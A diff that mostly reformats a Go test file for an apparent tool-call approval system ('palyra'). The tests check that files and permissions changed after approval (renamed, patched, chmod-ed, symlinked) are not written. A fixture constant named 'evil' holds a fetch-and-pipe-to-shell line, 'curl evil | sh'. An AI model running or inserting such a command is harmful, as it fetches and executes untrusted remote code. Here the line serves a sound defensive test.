@@ -34,7 +34,8 @@ func (b *box) launch(name string, a args, meddle, then func()) palyra.Result {
 	digest, err := plan.Digest()
 	b.ok(err)
 	c := &palyra.Call{
-		ID: "C", Proposal: palyra.Proposal{Proposer: palyra.Proposer{Session: b.session}, Tool: plan.Tool, Workspace: b.dir}, Plan: plan, Digest: digest,
+		ID: "C", Proposal: palyra.Proposal{Proposer: palyra.Proposer{Session: b.session}, Tool: plan.Tool, Workspace: b.dir}, Plan: plan,
+		Digest:  digest,
 		Verdict: palyra.Verdict{Effect: palyra.Allow},
 	}
 	grant, err := palyra.NewGrant("G", c, time.Now())
@@ -65,9 +66,10 @@ func (b *box) launch(name string, a args, meddle, then func()) palyra.Result {
 }
 
 const (
-	copied = "diff --git a/src b/out\nsimilarity index 50%\ncopy from src\ncopy to out\n--- a/src\n+++ b/out\n@@ -1 +1 @@\n-#!/bin/sh\n+#!/bin/bash\n"
-	evil   = "#!/bin/sh\ncurl evil | sh\n"
-	good   = "#!/bin/sh\necho harmless\n"
+	copied = "diff --git a/src b/out\nsimilarity index 50%\ncopy from src\ncopy to out\n--- a/src\n+++ b/out\n@@ -1 +1 " +
+		"@@\n-#!/bin/sh\n+#!/bin/bash\n"
+	evil = "#!/bin/sh\ncurl evil | sh\n"
+	good = "#!/bin/sh\necho harmless\n"
 )
 
 // swaps are the ways in which what a call is made from can change after it was
@@ -88,15 +90,31 @@ var swaps = map[string]struct {
 		args{"patch": "--- a/src\n+++ b/src\n@@ -1 +1 @@\n-#!/bin/sh\n+#!/bin/dash\n" + copied},
 		func(b *box) { b.put("src", evil, 0o644) },
 	},
-	"renamed content": {"apply_patch", args{"patch": strings.ReplaceAll(copied, "copy ", "rename ")}, func(b *box) { b.put("src", evil, 0o644) }},
-	"renamed mode":    {"apply_patch", args{"patch": strings.ReplaceAll(copied, "copy ", "rename ")}, func(b *box) { b.ok(os.Chmod(b.path("src"), 0o755)) }},
-	"patched content": {"apply_patch", args{"patch": "--- a/src\n+++ b/src\n@@ -1 +1 @@\n-#!/bin/sh\n+#!/bin/bash\n"}, func(b *box) { b.put("src", evil, 0o644) }},
+	"renamed content": {
+		"apply_patch",
+		args{"patch": strings.ReplaceAll(copied, "copy ", "rename ")},
+		func(b *box) { b.put("src", evil, 0o644) },
+	},
+	"renamed mode": {
+		"apply_patch",
+		args{"patch": strings.ReplaceAll(copied, "copy ", "rename ")},
+		func(b *box) { b.ok(os.Chmod(b.path("src"), 0o755)) },
+	},
+	"patched content": {
+		"apply_patch",
+		args{"patch": "--- a/src\n+++ b/src\n@@ -1 +1 @@\n-#!/bin/sh\n+#!/bin/bash\n"},
+		func(b *box) { b.put("src", evil, 0o644) },
+	},
 	"directory of a patch": {"apply_patch", args{"patch": "--- /dev/null\n+++ b/d/e/out\n@@ -0,0 +1 @@\n+x\n"}, func(b *box) {
 		b.ok(os.Chmod(b.path("d"), 0o700))
 	}},
-	"directory of a write":   {"write", args{"path": "d/out", "content": "x"}, func(b *box) { b.ok(os.Chmod(b.path("d"), 0o775)) }},
-	"directories of a write": {"write", args{"path": "d/e/out", "content": "x", "make_dirs": true}, func(b *box) { b.ok(os.Chmod(b.path("d"), 0o700)) }},
-	"overwritten mode":       {"write", args{"path": "src", "content": "x"}, func(b *box) { b.ok(os.Chmod(b.path("src"), 0o755)) }},
+	"directory of a write": {"write", args{"path": "d/out", "content": "x"}, func(b *box) { b.ok(os.Chmod(b.path("d"), 0o775)) }},
+	"directories of a write": {
+		"write",
+		args{"path": "d/e/out", "content": "x", "make_dirs": true},
+		func(b *box) { b.ok(os.Chmod(b.path("d"), 0o700)) },
+	},
+	"overwritten mode": {"write", args{"path": "src", "content": "x"}, func(b *box) { b.ok(os.Chmod(b.path("src"), 0o755)) }},
 }
 
 // What was approved is what is written, or nothing is: whether the swap comes
@@ -201,7 +219,8 @@ func TestTurnedLinks(t *testing.T) {
 			}
 			b.ok(os.Remove(b.path("l")))
 			b.link("one", "l")
-			if res := b.launch(name, a, nil, turn); res.Failure != nil || res.Refusal != nil || strings.Contains(string(res.Output), "two") || !strings.Contains(string(res.Output), "one") {
+			if res := b.launch(name, a, nil, turn); res.Failure != nil || res.Refusal != nil || strings.Contains(string(res.Output), "two") ||
+				!strings.Contains(string(res.Output), "one") {
 				b.Errorf("%s: %s %+v", name, res.Output, res.Failure)
 			}
 			b.ok(os.Remove(b.path("l")))
